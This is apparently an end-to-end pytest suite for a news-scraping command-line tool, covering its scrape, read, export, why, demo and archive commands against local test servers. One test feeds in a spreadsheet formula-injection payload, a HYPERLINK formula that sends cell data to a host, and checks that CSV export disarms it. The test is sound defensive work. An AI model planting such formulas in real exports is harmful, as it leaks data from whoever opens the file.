"""The commands beside `crawl`: scrape, read, export, why, sites, doctor, demo, archive."""

from __future__ import annotations

import csv
import gzip
import json
import re
import signal
import subprocess
from collections.abc import Callable
from datetime import timedelta
from io import StringIO
from pathlib import Path
from urllib.request import urlopen

import pytest

from newsbot.article import Access, Article, Crawl, Delivered
from newsbot.demo.server import Demo
from newsbot.demo.shapes import Kind
from newsbot.store.base import Query
from newsbot.store.opening import open_store
from tests.e2e.process import NEWSBOT, Command, Running, run_many, without_traceback
from tests.e2e.servers import Server, feed, news, page
from tests.processes import watched


def one(demo: Demo, kind: Kind) -> str:
    """The address of an article of a kind."""
    return demo.url + demo.newspaper.of_kind(kind)[0].path


# ── scrape ──


def test_scrape_prints_json_lines_and_nothing_else(newsbot: Command, demo: Demo) -> None:
    urls = [one(demo, Kind.FREE), one(demo, Kind.LOCKED)]
    done = newsbot("scrape", *urls, "--delay", "0")
    assert done.returncode == 0
    assert {each["url"]: each["access"]["delivered"] for each in done.lines} == {
        urls[0]: "full",
        urls[1]: "partial_teaser",
    }


def test_scrape_tells_what_it_could_not_get(newsbot: Command, demo: Demo) -> None:
    bad = [f"{demo.url}/_demo/{path}" for path in ("status/404", "status/418", "empty", "loop")]
    bad += [f"{demo.url}/private/newsroom", "http://nowhere.invalid/x", "http://127.0.0.1:1/x"]
    done = without_traceback(newsbot("scrape", one(demo, Kind.FREE), *bad, "--delay", "0"))
    assert done.returncode == 2
    assert len(done.lines) == 1
    told = done.said.replace(" ", "")
    for url in bad:
        assert url in told
    for words in ("404", "418", "empty", "redirects without end", "robots.txt", "DNS", "refuses the connection"):
        assert words in done.said


def test_scrape_reads_addresses_from_a_file_and_each_once(newsbot: Command, tmp_path: Path) -> None:
    with Server({f"/news/{number}": news(number) for number in range(3)}) as server:
        two = f"{server.url}/news/2"
        listed = [f"{server.url}/news/1", "# not this one", "", f"{two}?utm_source=feed", f"{two}#comments"]
        (tmp_path / "urls.txt").write_text("\n".join(listed))
        done = newsbot("scrape", f"{server.url}/news/0", "--from", str(tmp_path / "urls.txt"), "--delay", "0")
        assert done.returncode == 0
        assert sorted(each["headline"][:14] for each in done.lines) == [f"Ferry number {number}" for number in range(3)]
        assert server.count("/news/") == 3


def test_scrape_keeps_only_where_it_is_told_to(newsbot: Command, demo: Demo, uri: str, environment: dict) -> None:
    newsbot("scrape", one(demo, Kind.FREE), "--delay", "0")
    assert not list(Path(environment["NEWSBOT_DATA"]).glob("news*.sqlite"))
    newsbot("scrape", one(demo, Kind.FREE), "--delay", "0", "--store", uri)
    with open_store(uri) as store:
        assert [article.url for article in store.find(Query())] == [one(demo, Kind.FREE)]


# ── read ──


@pytest.mark.parametrize("form", ["file", "gz", "stdin"])
def test_read_is_offline(newsbot: Command, environment: dict[str, str], tmp_path: Path, form: str) -> None:
    file = tmp_path / "page.html"
    file.write_bytes(gzip.compress(page(7).encode()) if form == "gz" else page(7).encode())
    watching, network = watched(environment, tmp_path / "watch")
    name, given = ("-", file.read_text()) if form == "stdin" else (str(file), None)
    done = newsbot("read", name, "--url", "https://www.example.com/7", stdin=given, **watching)
    assert done.returncode == 0
    article = json.loads(done.stdout)
    assert article["headline"] == "Ferry number 7 leaves the harbour of Saltmere"
    assert article["datePublished"].startswith("2026-11-01T07:30:00")
    assert not {line for line in network() if not line.startswith("bind ::1 0")}, "a library looks if there is IPv6"


def test_read_explains_itself(newsbot: Command, demo: Demo, tmp_path: Path) -> None:
    with urlopen(one(demo, Kind.LOCKED)) as answer:
        (tmp_path / "page.html").write_bytes(answer.read())
    done = newsbot("read", str(tmp_path / "page.html"), "--url", one(demo, Kind.LOCKED), "--explain")
    assert done.returncode == 0
    assert demo.newspaper.of_kind(Kind.LOCKED)[0].headline in " ".join(done.stdout.split())
    assert "How the access verdict came about" in done.stdout
    assert "Only the beginning of the article was received." in done.stdout


@pytest.mark.parametrize("content", [b"", b"\x00\x01" * 999, b'{"a": 1}', b"\x1f\x8b broken", b"<rss></rss>"])
def test_read_of_what_is_no_page(newsbot: Command, tmp_path: Path, content: bytes) -> None:
    (tmp_path / "page.html").write_bytes(content)
    done = without_traceback(newsbot("read", str(tmp_path / "page.html"), "--url", "https://www.example.com/"))
    assert (done.returncode, done.stdout) == (1, "")
    assert "error:" in done.said


# ── export and why ──


def test_export_of_everything(newsbot: Command, filled: str) -> None:
    done = newsbot("export", "--store", filled)
    with open_store(filled) as store:
        assert [each["url"] for each in done.lines] == [article.url for article in store.find(Query())]
    assert f"{len(done.lines)} articles exported" in done.said


def test_export_filters(filled: str, demo: Demo, environment: dict[str, str]) -> None:
    day = max(piece.published for piece in demo.newspaper.articles).date()
    filters = [
        ["--delivered", "partial_teaser"],
        ["--language", "de"],
        ["--since", str(day), "--until", str(day + timedelta(days=1))],
        ["--limit", "3"],
        ["--site", "nobody"],
    ]
    exports = run_many([["export", "--store", filled, *each] for each in filters], environment)
    teasers, german, newest, three, none = (done.lines for done in exports)
    assert {each["access"]["delivered"] for each in teasers} == {"partial_teaser"}
    assert [each["url"] for each in german] == [one(demo, Kind.GERMAN)]
    assert {each["datePublished"][:10] for each in newest} == {str(day)}
    assert (len(three), none) == (3, [])


def test_export_as_csv_disarms_formulas(newsbot: Command, uri: str) -> None:
    evil = '=HYPERLINK("http://127.0.0.1/?"&A1)'
    access = Access(delivered=Delivered.FULL)
    with open_store(uri) as store:
        for number, headline in enumerate([evil, "+1", "-2", "@SUM(A1)", "Said, “quoted”\nand broken"]):
            store.save(
                [Article(url=f"http://a.example/{number}", headline=headline, access=access, crawl=Crawl(site="a"))]
            )
    done = newsbot("export", "-f", "csv", "--store", uri)
    rows = {row["url"][-1]: row["headline"] for row in csv.DictReader(StringIO(done.stdout))}
    assert rows == {"0": f"'{evil}", "1": "'+1", "2": "'-2", "3": "'@SUM(A1)", "4": "Said, “quoted”\nand broken"}


def test_export_to_a_file(newsbot: Command, filled: str, tmp_path: Path) -> None:
    target = tmp_path / "news.jsonl"
    done = newsbot("export", "--store", filled, "-o", str(target))
    assert (done.returncode, done.stdout) == (0, "")
    assert len(target.read_text().splitlines()) > 30
    assert [path.name for path in tmp_path.glob("*.part")] == []
    before = target.read_bytes()
    broken = without_traceback(newsbot("export", "--store", filled, "-o", str(target / "below")))
    assert broken.returncode == 1
    assert "--to" in broken.said
    assert target.read_bytes() == before


def test_export_into_a_pipe_that_closes(filled: str, environment: dict[str, str]) -> None:
    command = " ".join([*NEWSBOT, "export", "--store", filled])
    done = subprocess.run(
        ["bash", "-c", f"{command} | head -n 1; exit ${{PIPESTATUS[0]}}"],
        env=environment,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert len(done.stdout.splitlines()) == 1
    assert "Traceback" not in done.stderr
    assert "Exception ignored" not in done.stderr
    assert done.returncode == 0


def test_export_to_a_full_disk(filled: str, environment: dict[str, str]) -> None:
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [*NEWSBOT, "export", "--store", filled],
            env=environment,
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            check=False,
        )
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "Exception ignored" not in done.stderr
    assert "no space left" in done.stderr.lower()


def test_why_tells_the_story_of_an_article(newsbot: Command, filled: str, demo: Demo) -> None:
    done = newsbot("why", one(demo, Kind.LOCKED), "--store", filled)
    assert done.returncode == 0
    said = " ".join(done.stdout.split())
    assert "Now: teaser" in said
    assert demo.newspaper.of_kind(Kind.LOCKED)[0].headline in said
    assert "Version 1 of 1" in said


def test_why_as_json(newsbot: Command, filled: str, demo: Demo) -> None:
    story = json.loads(newsbot("why", one(demo, Kind.FREE), "--store", filled, "--json").stdout)
    assert story["visit"]["state"] == "stored"
    assert story["access"]["delivered"] == "full"
    assert [each["status"] for each in story["history"]] == [200]


def test_why_knows_what_it_does_not_know(newsbot: Command, filled: str) -> None:
    done = newsbot("why", "https://www.example.com/never", "--store", filled)
    assert (done.returncode, done.stdout) == (1, "")
    assert "never seen" in done.said


# ── demo and archive ──


def test_demo_serves_until_ctrl_c(running: Callable[..., Running]) -> None:
    with running("demo", "--port", "0") as demo:
        address = re.search(r"http://127\.0\.0\.1:\d+", demo.line())
        assert address is not None
        with urlopen(f"{address[0]}/", timeout=30) as answer:
            assert b"Saltmere" in answer.read()
        demo.send(signal.SIGINT)
        done = without_traceback(demo.end(15))
    assert done.returncode == 0


def test_demo_on_a_port_that_is_taken(newsbot: Command, demo: Demo) -> None:
    done = without_traceback(newsbot("demo", "--port", demo.url.rpartition(":")[2]))
    assert done.returncode == 1
    assert "in use" in done.said


def test_archive_stores_a_window(newsbot: Command, demo: Demo, uri: str) -> None:
    days = sorted({piece.published.date() for piece in demo.newspaper.articles})
    since, until = days[2], days[-3]
    done = newsbot(
        "archive", demo.url, "--since", str(since), "--until", str(until), "--store", uri, "--delay", "0.01", "--json"
    )
    assert done.returncode == 0, done.stderr
    with open_store(uri) as store:
        kept = list(store.find(Query()))
    assert all(article.datePublished.date() >= since for article in kept if article.datePublished)
    inside = [piece for piece in demo.newspaper.articles if since <= piece.published.date() < until]
    assert {article.url for article in kept} >= {demo.url + piece.path for piece in inside if piece.kind is Kind.FREE}


def test_a_crawl_of_sites_from_a_file(newsbot: Command, uri: str, tmp_path: Path) -> None:
    with Server() as one_site, Server() as other:
        for number, server in enumerate((one_site, other)):
            server.routes |= {"/rss": feed([f"{server.url}/news/{number}"]), f"/news/{number}": news(number)}
            (tmp_path / f"{number}.yml").write_text(
                f"name: Paper {number}\nurl: {server.url}/\nfeeds: ['{server.url}/rss']\n"
            )
        (tmp_path / "sites.txt").write_text(f"# mine\n{tmp_path}/0.yml\n\n{tmp_path}/1.yml\n")
        done = newsbot("crawl", "--from", str(tmp_path / "sites.txt"), "--store", uri, "--delay", "0", "--json")
    assert (done.returncode, done.totals["sites"], done.totals["new"]) == (0, 2, 2)
